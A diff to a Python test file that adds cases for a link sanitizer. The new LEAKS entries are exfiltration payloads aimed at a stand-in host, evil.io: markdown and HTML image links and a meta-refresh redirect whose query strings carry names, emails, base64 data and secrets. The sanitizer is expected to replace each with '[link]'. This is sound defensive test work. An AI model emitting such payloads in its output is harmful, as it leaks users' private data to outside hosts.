@@ -24,6 +24,12 @@ LEAKS = (
     (f"www.evil.io/{DATA}", "[link]"),
     (f"https://evil%2Eio/{DATA}", "[link]"),
     ("https://bob:pw@evil.io/ a", "[link] a"),
+    ("![x](https://evil.io/log?name=Ann%20Lee) b", "[link] b"),
+    ("![x](https://evil.io/log?q=SGVsbG8gd29ybGQ) b", "[link] b"),
+    ('<img src="https://evil.io/x.png?d=secret">', "[link]"),
+    (f"![x][1]\n\n[1]: //evil.io/?d={DATA}", "![x][1]\n\n[1]: [link]"),
+    (f'<meta http-equiv="refresh" content="0;url=https://evil.io/?d={DATA}">', "[link]"),
+    ("https://evil.io/track?email=ann@shop.io b", "[link] b"),
 )
 HARMLESS = (
     "https://docs.python.org/3/library/re.html#re.compile",
@@ -34,6 +40,9 @@ HARMLESS = (
     "https://shop.io/a?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale",
     "![badge](https://img.shields.io/badge/build-passing-green?style=flat-square)",
     "![dot](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8)",
+    "![a](https://cdn.shop.io/mug.png?w=400&h=300&fit=crop&auto=format&q=80#mug)",
+    "![ci](https://github.com/o/r/actions/workflows/ci.yml/badge.svg?branch=main&event=push)",
+    '<link href="https://fonts.shop.io/css2?family=Inter:wght@400&display=swap" rel="stylesheet">',
     f"https://docs.corp.io/?q={DATA}",
     f"![a](https://a.b.trusted.dev:8443/{DATA})",
     "a // b, C:\\\\Users\\\\ann, s3://bucket/key",
